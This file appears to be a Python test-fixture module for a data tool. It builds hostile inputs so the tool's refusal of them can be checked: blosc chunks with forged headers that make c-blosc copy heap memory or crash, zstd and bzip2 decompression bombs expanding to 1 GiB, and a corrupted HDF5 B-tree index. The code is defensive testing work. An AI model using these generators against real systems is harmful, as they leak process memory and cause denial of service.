"""Hostile compressed chunks: headers that lie to the decoders, decompression bombs, a damaged
chunk index. Each store is made the way an attacker would: plain h5py (+ hdf5plugin's
filters), zarr-python, numcodecs, zipfile and file writes, never through ptd.

- a blosc chunk that is only a 16-byte header saying "memcpyed, 64 kB" (c-blosc would copy
  64 kB from past the chunk: the process's heap into the values), in zarr v3, zarr v2 (read by
  zarr-python's own pipeline) and HDF5 (filter 32001), and an 8 MiB variant (a segfault);
- zstd bombs: a 32 kB frame of 1 GiB without a content size (streamed), and with one, in a
  chunk of 16 bytes (zarr, and HDF5's filter 32015);
- a ``.tdz`` archive of about 1 kB whose bzip2 member expands to 1 GiB (library only:
  :data:`TDZ_BOMB`, no CLI command reads archives).

The B-tree key flip (HDF5 ``libver="earliest"``: h5py and ptd's own decoder read different
chunks) is not refused but must agree with h5py: see :func:`make_btree_key_flip`.
"""

from __future__ import annotations

import struct
from pathlib import Path

import numpy as np

from .attack_kit import Attack

__all__ = [
    "ATTACKS",
    "BTREE_FLIP_AT",
    "TDZ_BOMB_BYTES",
    "blosc_memcpyed_header",
    "make_btree_key_flip",
    "make_tdz_bomb",
    "zstd_rle_frame",
]

GIB = 1 << 30


def blosc_memcpyed_header(nbytes: int, typesize: int = 4) -> bytes:
    """A blosc1 header alone: version 2, "memcpyed" (+ byte shuffle), ``nbytes`` decoded,
    ``nbytes + 16`` stored -- the chunk itself holds only these 16 bytes."""
    return bytes([2, 1, 0x02 | 0x01, typesize]) + struct.pack("<III", nbytes, nbytes, nbytes + 16)


def zstd_rle_frame(total: int, content_size: bool, byte: int = 0) -> bytes:
    """A zstd frame of ``total`` equal bytes written by hand as RLE blocks of 128 KiB (4 bytes
    each: 1 GiB in 32 kB), with or without the frame content size in its header."""
    out = bytearray(struct.pack("<I", 0xFD2FB528))
    out += bytes([(3 << 6) if content_size else 0, 7 << 3])  # window 128 KiB
    if content_size:
        out += struct.pack("<Q", total)
    left = total
    while left > 0:
        n = min(128 << 10, left)
        left -= n
        header = (1 if left == 0 else 0) | (1 << 1) | (n << 3)
        out += header.to_bytes(3, "little") + bytes([byte])
    return bytes(out)


def _zarr_blosc(directory: Path, nbytes: int, zarr_format: int = 3) -> Path:
    import numcodecs
    import zarr
    from zarr.codecs import BloscCodec

    path = directory / "leak.zarr"
    g = zarr.open_group(str(path), mode="w", zarr_format=zarr_format)
    n = nbytes // 4
    if zarr_format == 3:
        compressor = BloscCodec(cname="lz4", typesize=4, shuffle="noshuffle")
    else:
        compressor = numcodecs.Blosc(cname="lz4", shuffle=0)
    a = g.create_array("obs", shape=(n,), chunks=(n,), dtype="float32", compressors=compressor)
    a[:] = np.arange(n, dtype="float32")
    chunk = path / "obs" / ("c/0" if zarr_format == 3 else "0")
    chunk.write_bytes(blosc_memcpyed_header(nbytes))
    return path


def make_zarr_blosc_leak(directory: Path) -> Path:
    return _zarr_blosc(directory, 65536)


def make_zarr_blosc_leak_8mib(directory: Path) -> Path:
    return _zarr_blosc(directory, 8 << 20)


def make_zarr_v2_blosc_leak(directory: Path) -> Path:
    return _zarr_blosc(directory, 65536, zarr_format=2)


def make_h5_blosc_leak(directory: Path) -> Path:
    import h5py
    import hdf5plugin

    path = directory / "leak.h5"
    n = 65536 // 4
    with h5py.File(path, "w") as f:
        ds = f.create_dataset(
            "obs",
            data=np.arange(n, dtype="float32"),
            chunks=(n,),
            **hdf5plugin.Blosc(cname="lz4", shuffle=hdf5plugin.Blosc.NOSHUFFLE),
        )
        ds.id.write_direct_chunk((0,), blosc_memcpyed_header(65536))
    return path


def _zarr_zstd(directory: Path, content_size: bool) -> Path:
    import zarr
    from zarr.codecs import ZstdCodec

    path = directory / "bomb.zarr"
    g = zarr.open_group(str(path), mode="w")
    n = 4 if content_size else 1024  # a 16-byte array, or a 4 kB one
    a = g.create_array("obs", shape=(n,), chunks=(n,), dtype="float32", compressors=ZstdCodec())
    a[:] = np.ones(n, dtype="float32")
    (path / "obs" / "c" / "0").write_bytes(zstd_rle_frame(GIB, content_size))
    return path


def make_zarr_zstd_bomb(directory: Path) -> Path:
    return _zarr_zstd(directory, content_size=False)


def make_zarr_zstd_declares_1gib(directory: Path) -> Path:
    return _zarr_zstd(directory, content_size=True)


def make_h5_zstd_bomb(directory: Path) -> Path:
    import h5py
    import hdf5plugin

    path = directory / "bomb.h5"
    with h5py.File(path, "w") as f:
        ds = f.create_dataset("obs", data=np.ones(4, "float32"), chunks=(4,), **hdf5plugin.Zstd())
        ds.id.write_direct_chunk((0,), zstd_rle_frame(GIB, content_size=True))
    return path


#: the byte of the B-tree changed by :func:`make_btree_key_flip`: the first chunk offset of
#: the second key (its chunk then claims rows 0-3 too)
BTREE_FLIP_AT = 24 + 40 + 8


def make_btree_key_flip(directory: Path) -> Path:
    """``libver="earliest"`` (a version 1 B-tree chunk index), gzip, chunks (4, 3) of a
    (12, 3) float32 dataset; the second key's row offset (4) set to 0. HDF5's search then
    finds that chunk for rows 0-3 (h5py reads 13, 16...), its walk the first one (1, 4...)."""
    import h5py

    path = directory / "btree.h5"
    with h5py.File(path, "w", libver="earliest") as f:
        f.create_dataset(
            "obs",
            data=np.arange(1, 37, dtype="float32").reshape(12, 3),
            chunks=(4, 3),
            compression="gzip",
        )
    data = bytearray(path.read_bytes())
    at = 0
    while True:
        at = data.index(b"TREE", at)
        if data[at + 4] == 1:  # a chunk B-tree node (type 1)
            break
        at += 4
    assert data[at + BTREE_FLIP_AT] == 4
    data[at + BTREE_FLIP_AT] = 0
    path.write_bytes(bytes(data))
    return path


#: what the member of :func:`make_tdz_bomb` declares and expands to
TDZ_BOMB_BYTES = GIB


#: 1 GiB of zero bytes as one bzip2 stream (785 bytes; bzip2 takes about 30 s to make it,
#: so the stream is written here as it came out of ``bz2.BZ2Compressor(9)``)
_BZ2_GIB_OF_ZEROS = bytes.fromhex(
    "425a68393141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a80973141592653590e09"
    "e2df015f8e4000c0000008200030804d4642a025a90a80973141592653590e09e2df015f8e4000c000000820"
    "0030804d4642a025a90a80973141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a8097"
    "3141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a80973141592653590e09e2df015f"
    "8e4000c0000008200030804d4642a025a90a80973141592653590e09e2df015f8e4000c0000008200030804d"
    "4642a025a90a80973141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a809731415926"
    "53590e09e2df015f8e4000c0000008200030804d4642a025a90a80973141592653590e09e2df015f8e4000c0"
    "000008200030804d4642a025a90a80973141592653590e09e2df015f8e4000c0000008200030804d4642a025"
    "a90a80973141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a80973141592653590e09"
    "e2df015f8e4000c0000008200030804d4642a025a90a80973141592653590e09e2df015f8e4000c000000820"
    "0030804d4642a025a90a80973141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a8097"
    "3141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a80973141592653590e09e2df015f"
    "8e4000c0000008200030804d4642a025a90a80973141592653590e09e2df015f8e4000c0000008200030804d"
    "4642a025a90a80973141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a809731415926"
    "53590e09e2df015f8e4000c0000008200030804d4642a025a90a80973141592653590e09e2df015f8e4000c0"
    "000008200030804d4642a025a90a80973141592653590e09e2df015f8e4000c0000008200030804d4642a025"
    "a90a80973141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a8097314159265359487c"
    "5fc9008a52c800c00000040008200030cc0529a69122436144890f177245385090f688e402"
)


def make_tdz_bomb(directory: Path) -> Path:
    """A memmap archive (``.tdz``) of about 1 kB: a meta.json for an int32 leaf of 2**28
    values, and its ``.memmap`` member compressed with bzip2: 1 GiB of zeros, declared as
    such in the zip's directory."""
    meta = (
        '{"a": {"device": "cpu", "shape": [268435456], "dtype": "torch.int32", '
        '"is_nested": false}, "shape": [], "device": "cpu", "_type": '
        '"<class \'tensordict._td.TensorDict\'>", "_format_version": 1, '
        '"_class": "tensordict:TensorDict"}'
    )
    return _zip_with_raw_member(
        directory / "bomb.tdz", meta, "a.memmap", _BZ2_GIB_OF_ZEROS, TDZ_BOMB_BYTES
    )


def _zip_with_raw_member(path: Path, meta: str, name: str, body: bytes, size: int) -> Path:
    """A zip holding ``meta.json`` (stored) and ``name`` whose bzip2 stream ``body`` expands
    to ``size`` zero bytes, written record by record."""
    import zlib

    records = []
    out = bytearray()
    crc_zero = 0
    chunk = bytes(1 << 20)
    for _ in range(size >> 20):
        crc_zero = zlib.crc32(chunk, crc_zero)
    members = [
        ("meta.json", 0, meta.encode(), zlib.crc32(meta.encode()), len(meta.encode())),
        (name, 12, body, crc_zero, size),
    ]
    for fname, method, data, crc, usize in members:
        offset = len(out)
        fn = fname.encode()
        out += struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            46,
            0,
            method,
            0,
            0x21,
            crc,
            len(data),
            usize,
            len(fn),
            0,
        )
        out += fn + data
        records.append((fn, method, crc, len(data), usize, offset))
    start = len(out)
    for fn, method, crc, csize, usize, offset in records:
        out += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02", 46, 46, 0, method, 0, 0x21, crc, csize, usize, len(fn), 0, 0, 0, 0,
            0o644 << 16, offset,
        )  # fmt: skip
        out += fn
    out += struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(records), len(records), len(out) - start, start, 0
    )
    path.write_bytes(bytes(out))
    return path


ATTACKS: list[Attack] = [
    Attack(
        "zarr_blosc_header_leak",
        make_zarr_blosc_leak,
        (
            ("validate", "--data", "{store}"),
            ("convert", "{store}", "{out_h5}"),
            ("convert", "{store}", "{out_zarr}"),
            ("memmap", "{store}", "{out}"),
        ),
    ),
    Attack(
        "zarr_blosc_header_leak_8mib",
        make_zarr_blosc_leak_8mib,
        (("convert", "{store}", "{out_h5}"), ("validate", "--data", "{store}")),
    ),
    Attack(
        "zarr_v2_blosc_header_leak",
        make_zarr_v2_blosc_leak,
        (("validate", "--data", "{store}"), ("convert", "{store}", "{out_h5}")),
    ),
    Attack(
        "h5_blosc_header_leak",
        make_h5_blosc_leak,
        (
            ("validate", "--data", "{store}"),
            ("convert", "{store}", "{out_zarr}"),
            ("memmap", "{store}", "{out}"),
        ),
    ),
    Attack(
        "zarr_zstd_bomb",
        make_zarr_zstd_bomb,
        (("validate", "--data", "{store}"), ("convert", "{store}", "{out_h5}")),
    ),
    Attack(
        "zarr_zstd_frame_declares_1gib",
        make_zarr_zstd_declares_1gib,
        (("validate", "--data", "{store}"), ("convert", "{store}", "{out_h5}")),
    ),
    Attack(
        "h5_zstd_bomb",
        make_h5_zstd_bomb,
        (("validate", "--data", "{store}"), ("convert", "{store}", "{out_zarr}")),
    ),
]
